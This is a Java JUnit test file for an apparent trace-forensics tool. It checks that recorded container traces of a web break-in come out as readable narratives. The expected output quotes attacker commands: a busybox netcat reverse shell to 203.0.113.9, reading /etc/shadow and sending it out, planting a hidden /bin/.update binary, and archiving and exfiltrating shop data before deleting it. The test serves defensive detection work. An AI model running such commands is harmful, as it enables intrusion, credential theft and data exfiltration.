// SPDX-License-Identifier: Apache-2.0
// Copyright the gvtrace authors

package dev.gvtrace.replay.query.narrative;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gvtrace.replay.decode.Traces;
import dev.gvtrace.replay.query.narrative.Asking.Answer;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Narratives of recordings of both ages of the Sentry. */
class NarrativeRecordingsTest {
    static Stream<Path> traces() {
        return Stream.concat(
                Stream.of("web-break-in", "workload-2022", "workload-2026", "pod-2022", "hide-hardened", "raw-2026")
                        .map(Asking::sample),
                Stream.of("real/py22-falco", "real/redis-falco", "real/pt-full", "sentry/tour", "sentry/churn-bare")
                        .map(Traces::stream));
    }

    @Test
    void theStoryOfTheBreakInCanBePastedInAReport() throws Exception {
        Answer answer = Asking.files("story 13", Asking.sample("web-break-in"));
        List<String> lines = new ArrayList<>();
        for (int i = 0; i < answer.rows().size(); i++) {
            lines.add(answer.column("evt").get(i) + " " + answer.texts().get(i));
        }
        assertThat(lines)
                .containsExactly(
                        "411 Process 11 (ping) started process 13, which ran \"busybox nc 203.0.113.9 4444 -e /bin/sh\" (/usr/bin/busybox).",
                        "438 Process 13 (busybox) connected from 198.51.100.10:58388 to 203.0.113.9:4444 (tcp); 161 bytes were received and 513 bytes sent over it.",
                        "442 Process 13 (busybox) then ran \"/bin/sh\" (/usr/bin/dash).",
                        "442 Standard input and output of process 13 (sh) were the connection 198.51.100.10:58388->203.0.113.9:4444.",
                        "463 Process 13 (sh) started process 14, which ran \"id\" (/usr/bin/id).",
                        "527 Process 14 (id) sent 39 bytes over the connection of process 13 with 203.0.113.9:4444.",
                        "530 6 processes exited with code 0, until evt:830.",
                        "534 Process 13 (sh) started process 15, which ran \"cat /etc/shadow\" (/usr/bin/cat).",
                        "554 Process 15 (cat) read 474 bytes from /etc/shadow.",
                        "555 Process 15 (cat) sent 474 bytes over the connection of process 13 with 203.0.113.9:4444.",
                        "565 Process 13 (sh) started process 16, which ran \"cp /bin/busybox /bin/.update\" (/usr/bin/cp).",
                        "618 Process 16 (cp) opened /bin/busybox for reading; the trace shows no bytes read.",
                        "619 Process 16 (cp) created /bin/.update; the trace shows no bytes written to it.",
                        "629 Process 13 (sh) started process 17, which ran \"/bin/.update true\" (/usr/bin/.update).",
                        "629 This program, /usr/bin/.update, was not from the image: its file was last written by process 16 (cp) as /bin/.update, at evt:619.",
                        "657 Process 17 (.update) exited with code 127.",
                        "661 Process 13 (sh) started process 18, which ran \"tar -cf /dev/shm/.o -C / srv/shop\" (/usr/bin/tar).",
                        "708 Process 18 (tar) wrote 10240 bytes to /dev/shm/.o.",
                        "710 Process 18 (tar) opened /srv/shop for reading; the trace shows no bytes read.",
                        "736 Process 18 (tar) read 47 bytes from /srv/shop/orders.csv.",
                        "745 Process 13 (sh) opened /dev/shm/.o for reading; the trace shows no bytes read.",
                        "753 Process 13 (sh) started process 19, which ran \"busybox nc 203.0.113.9 443\" (/usr/bin/busybox).",
                        "780 Process 19 (busybox) connected to 203.0.113.9:443 (tcp); 0 bytes were received and 10240 bytes sent over it.",
                        "781 Process 19 (busybox) read 10240 bytes from /dev/shm/.o.",
                        "809 Process 13 (sh) started process 20, which ran \"rm /dev/shm/.o\" (/usr/bin/rm).",
                        "809 Process 20 (rm) was asked to delete /dev/shm/.o; whether it did is not in the trace, but its exit code was 0.",
                        "832 Process 13 (sh) exited with code 0.",
                        "- Left out: 40 uses of 11 files of the dynamic loader, libraries, locales, name service, /proc, /sys and /dev; 2 attempts to open or run a missing file.");
    }

    @ParameterizedTest
    @MethodSource("traces")
    void everyProcessHasAStoryOfWholeSentences(Path file) throws Exception {
        List<String> pids = Asking.files("processes | distinct pid", file).column("pid");
        assertThat(pids).isNotEmpty();
        for (String pid : pids.subList(0, Math.min(5, pids.size()))) {
            Answer answer = Asking.files("story " + pid, file);
            assertThat(answer.texts())
                    .as(pid)
                    .isNotEmpty()
                    .allMatch(text -> text.matches("[A-Z0-9].*\\."))
                    .allSatisfy(text -> assertThat(text.codePoints()).noneMatch(Character::isISOControl));
            List<String> times = answer.column("time").stream()
                    .filter(time -> !time.equals("-"))
                    .toList();
            assertThat(times).isSorted();
        }
    }

    @ParameterizedTest
    @MethodSource("traces")
    void everyWrittenFileHasAnOrigin(Path file) throws Exception {
        List<String> paths = Asking.files("accesses write_evt > 0 and kind = file | distinct target | limit 5", file)
                .column("target");
        for (String path : paths) {
            Answer answer = Asking.files("origin '" + path + "'", file);
            assertThat(answer.column("certainty")).as(path).startsWith("seen");
            assertThat(answer.texts()).as(path).allMatch(text -> text.endsWith("."));
        }
    }

    @ParameterizedTest
    @MethodSource("traces")
    void everySummaryFitsAScreenAndSaysWhatItHas(Path file) throws Exception {
        Answer answer = Asking.files("summary", file);
        assertThat(answer.rows()).hasSizeBetween(11, 22);
        assertThat(answer.column("section"))
                .contains(
                        "trace",
                        "container",
                        "not from the image",
                        "program",
                        "identity",
                        "written",
                        "peer",
                        "shell on a socket",
                        "alerts");
        long containers = Asking.files("containers", file).rows().size();
        assertThat(answer.column("section").stream().filter("container"::equals).count())
                .isBetween(1L, Math.max(1L, containers));
    }
}
